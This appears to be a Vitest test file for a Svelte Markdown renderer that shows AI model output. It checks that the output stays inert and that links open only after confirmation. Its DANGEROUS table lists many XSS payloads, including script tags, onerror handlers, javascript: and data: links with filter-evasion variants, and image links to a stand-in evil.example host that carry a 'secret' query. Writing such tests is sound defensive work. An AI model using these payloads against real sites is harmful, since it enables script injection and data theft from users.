import { flushSync } from 'svelte';
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { BlockSplitter, LinkDialog, Markdown } from '../../src/lib/markdown';
import { linkGate } from '../../src/lib/markdown/links.svelte';
import { clear, preparePage, settle, show, testHost, type TestHost } from './page';
import { blockProps } from './props.svelte';

/** Everything that may stand on the page for a text; svg is our own icons, math our own formulas. */
const ALLOWED = new Set(
  'math mrow mi mn mo mtext mspace mfrac msqrt msup msub mstyle sup div p span h3 h4 h5 h6 ul ol li strong em del code pre br hr blockquote table thead tbody tr th td input button svg path rect circle line polyline'.split(
    ' ',
  ),
);
const ATTRIBUTES =
  /^(class|dir|role|tabindex|title|type|aria-\w+|checked|disabled|alttext|display|mathcolor|stretchy|start|scope|width|height|viewBox|fill|stroke[\w-]*|d|x\d?|y\d?|cx|cy|r[xy]?|points|xmlns)$/;

const DANGEROUS: Readonly<Record<string, string>> = {
  script: '<script>window.hit = 1</script>',
  'inline script': 'a <script>window.hit = 1</script> b',
  onerror: '<img src=x onerror="window.hit = 1">',
  'svg onload': '<svg onload="window.hit = 1"><use href="data:,x"></svg>',
  iframe: '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  form: '<form action="https://evil.example"><button formaction="javascript:1">x</button></form>',
  style: '<style>@import url(https://evil.example/x.css)</style>',
  'nested tags': '<scr<script>ipt>window.hit = 1</scr</script>ipt>',
  comment: '<!-- --><img src=x onerror=1> -->',
  cdata: '<![CDATA[<img src=x onerror=1>]]>',
  'entities as tags': '&lt;img src=x onerror=1&gt; &#60;script&#62;',
  'javascript link': '[x](javascript:window.hit=1)',
  'javascript link, mixed case': '[x](JaVaScRiPt:alert(1))',
  'javascript link, entities': '[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1))',
  'javascript link, tab': '[x](java&Tab;script:alert(1)) [y](<java\tscript:alert(1)>)',
  'javascript link, spaces': '[x](  javascript:alert(1)  )',
  'data link': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'vbscript, file, blob': '[x](vbscript:1) [y](file:///etc/passwd) [z](blob:https://a/b)',
  'app schemes': '[x](tauri://localhost) [y](ms-msdt:/id) [z](smb://a/b) [w](calculator:)',
  autolink: '<javascript:alert(1)> <data:text/html,x>',
  'reference link': '[x][1]\n\n[1]: javascript:alert(1)',
  'relative link': '[x](/api/rpc/settings_update) [y](#token=1) [z](//evil.example)',
  image: '![a](https://evil.example/x.png?q=secret) ![b](data:image/png;base64,AA)',
  'reference image': '![a][1]\n\n[1]: https://evil.example/x.png',
  'image in link': '[![a](https://evil.example/x.png)](https://evil.example)',
  'html in table': '| <img src=x onerror=1> |\n|---|\n| <script>1</script> |',
  'html in list': '- <img src=x onerror=1>\n  <script>1</script>\n- [ ] <b onclick=1>x</b>',
  'html in quote': '> <img src=x onerror=1>\n> > <script>1</script>',
  'html in code': '```html\n<img src=x onerror=1><script>window.hit = 1</script>\n```',
  'html in language': '```<img/src=x/onerror=1>\nx\n```',
  'attribute break in link': '[x](https://a.example/"onmouseover="alert(1))',
  'attribute break in title': '[x](https://a.example "\\" onclick=\\"1")',
  'heading with html': '# <img src=x onerror=1> [x](javascript:1)',
  footnote: 'a[^1]\n\n[^1]: <img src=x onerror=1>',
  'footnote name': 'a[^<img/src=x/onerror=1>]\n\n[^<img/src=x/onerror=1>]: x',
  'formula as html': '$\\html{<img src=x onerror=1>}$ $\\text{<script>window.hit = 1</script>}$',
  'formula with class':
    '$\\htmlStyle{position:fixed}{x}$ $\\includegraphics{https://evil.example/x.png}$',
  diagram: '```mermaid\ngraph TD; A-->B; click A "javascript:window.hit=1"\n```',
  template: '{@html "<img>"} {{constructor.constructor("1")()}} ${window.hit}',
  math: '$$\\href{javascript:alert(1)}{x}$$',
  unfinished: '<img src="x" onerror="window.hit = 1"',
  'unfinished image': '![a](https://evil.example/x.p',
};

let host: TestHost;

beforeAll(preparePage);
beforeEach(async () => {
  host = await testHost();
});
afterEach(async () => {
  linkGate.close();
  await clear();
});

function expectInert(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    expect(ALLOWED, element.outerHTML).toContain(element.localName);
    for (const { name } of element.attributes) {
      expect(name, element.outerHTML).toMatch(ATTRIBUTES);
    }
  }
  expect('hit' in window).toBe(false);
}

describe('what a model writes', () => {
  for (const [name, text] of Object.entries(DANGEROUS)) {
    it(`is inert, whole: ${name}`, async () => {
      const root = show(Markdown, { blocks: BlockSplitter.of(text) });
      await settle();
      expectInert(root);
    });

    it(`is inert, while it grows: ${name}`, () => {
      const splitter = new BlockSplitter(() => 0);
      for (const character of text) {
        splitter.push(character);
        const blocks = JSON.stringify(splitter.split());
        expect(blocks).not.toMatch(/"href":"(?!https?:|mailto:|")/);
      }
      expectInert(show(Markdown, { blocks: splitter.split() }));
    });
  }

  it('shows raw HTML as the text it is', () => {
    const root = show(Markdown, { blocks: BlockSplitter.of('a <b onclick="x">c</b>\n\n<i>d</i>') });
    expect(root.textContent).toContain('a <b onclick="x">c</b>');
    expect(root.textContent).toContain('<i>d</i>');
  });

  it('names an image and its host, and fetches nothing', () => {
    const fetched = vi.spyOn(globalThis, 'fetch');
    const root = show(Markdown, { blocks: BlockSplitter.of(DANGEROUS.image!) });
    expect(root.querySelector('img, picture, video, audio, object, embed')).toBeNull();
    expect(root.textContent).toContain('evil.example');
    expect(root.textContent).toContain('a');
    expect(fetched).not.toHaveBeenCalled();
  });

  it('cannot turn the direction of code or text', () => {
    const text = '`if (a\u202e) {}` and \u2066text\u2069\n\n```js\nlet a = "\u202e";\n```';
    const root = show(Markdown, { blocks: BlockSplitter.of(text) });
    expect(root.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(root.textContent).toContain('U+202E');
  });
});

describe('a link', () => {
  const LINK = 'See [the page](https://exämple.org/a?b=1).';

  it('asks with the whole address, and opens only after a yes', async () => {
    const root = show(Markdown, { blocks: BlockSplitter.of(LINK) });
    show(LinkDialog, {});
    root.querySelector<HTMLElement>('[role="link"]')?.click();
    await settle();
    const dialog = document.querySelector('[role="dialog"]');
    expect(dialog?.textContent).toContain('https://xn--exmple-cua.org/a?b=1');
    expect(dialog?.textContent).toContain('other alphabets');
    expect(host.opened).toEqual([]);
    const open = [...(dialog?.querySelectorAll('button') ?? [])].find(
      (button) => button.textContent.trim() === 'Open',
    );
    open?.click();
    await settle();
    expect(host.opened).toEqual(['https://xn--exmple-cua.org/a?b=1']);
  });

  it('opens nothing after a no', async () => {
    const root = show(Markdown, { blocks: BlockSplitter.of(LINK) });
    show(LinkDialog, {});
    root.querySelector<HTMLElement>('[role="link"]')?.click();
    await settle();
    const stay = [...document.querySelectorAll('[role="dialog"] button')].find(
      (button) => button.textContent.trim() === 'Stay here',
    );
    (stay as HTMLElement).click();
    await settle();
    expect(linkGate.asked).toBeNull();
    expect(host.opened).toEqual([]);
  });

  it('answers to Enter, and has no address of its own to follow', () => {
    const root = show(Markdown, { blocks: BlockSplitter.of(LINK) });
    const link = root.querySelector('[role="link"]');
    expect(root.querySelector('a, [href]')).toBeNull();
    link?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    expect(linkGate.asked?.href).toContain('xn--exmple-cua.org');
  });

  it('whose address may not be offered is only its text', () => {
    const root = show(Markdown, { blocks: BlockSplitter.of('[x](javascript:alert(1))') });
    expect(root.querySelector('[role="link"]')).toBeNull();
    linkGate.ask('javascript:alert(1)');
    expect(linkGate.asked).toBeNull();
  });
});

describe('a growing text on the page', () => {
  it('keeps the elements of finished blocks', () => {
    const splitter = new BlockSplitter(() => 0);
    const props = blockProps();
    const root = show(Markdown, props);
    const seen: Element[] = [];
    const text = '# Title\n\nFirst paragraph.\n\n- a\n- b\n\n```js\nlet a;\n```\n\nThe last one.';
    for (const character of text) {
      splitter.push(character);
      props.blocks = splitter.split();
      flushSync();
      const now = [...(root.querySelector('.markdown')?.children ?? [])];
      seen.slice(0, -2).forEach((element, at) => {
        expect(now[at]).toBe(element);
      });
      seen.splice(0, seen.length, ...now);
    }
    props.blocks = splitter.finish();
    flushSync();
    expect([...root.querySelector('.markdown')!.children]).toEqual(seen);
  });

  it('colours code once its fence is closed', async () => {
    const splitter = new BlockSplitter(() => 0);
    const props = blockProps();
    const root = show(Markdown, props);
    splitter.push('```js\nlet a = 1;\n');
    props.blocks = splitter.split();
    await settle();
    expect(root.querySelector('.keyword')).toBeNull();
    splitter.push('```\n');
    props.blocks = splitter.split();
    await vi.waitFor(() => {
      flushSync();
      expect(root.querySelector('.keyword')?.textContent).toBe('let');
    });
    expect(root.querySelector('code')?.textContent).toBe('let a = 1;');
  });

  it('copies the code as it was written', async () => {
    const root = show(Markdown, { blocks: BlockSplitter.of('```html\n<b>&amp;</b>\n```') });
    [...root.querySelectorAll('button')].at(-1)?.click();
    await settle();
    expect(host.copied).toEqual(['<b>&amp;</b>']);
  });
});
